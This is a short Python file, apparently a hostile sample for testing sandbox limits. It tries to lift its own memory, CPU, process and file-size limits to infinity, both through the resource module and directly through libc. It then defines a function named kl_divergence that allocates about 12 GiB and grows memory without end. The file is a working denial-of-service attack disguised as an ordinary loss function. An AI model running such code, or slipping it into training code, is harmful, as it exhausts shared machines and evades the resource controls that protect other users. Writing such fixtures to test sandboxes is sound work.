"""Raises its soft limits to the hard ones (and through libc), then eats memory and CPU."""
import ctypes
import resource

import torch

libc = ctypes.CDLL(None)


def unlimit():
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError) as exc:
            print("refused:", exc)
        inf = (ctypes.c_ulong * 2)(2**64 - 1, 2**64 - 1)
        libc.setrlimit(kind, inf)


unlimit()


def kl_divergence(mu, logvar):
    unlimit()
    hog = [torch.ones(256, 1024, 1024) for _ in range(12)]  # 12 GiB
    while True:
        hog.append(hog[-1] * 2)
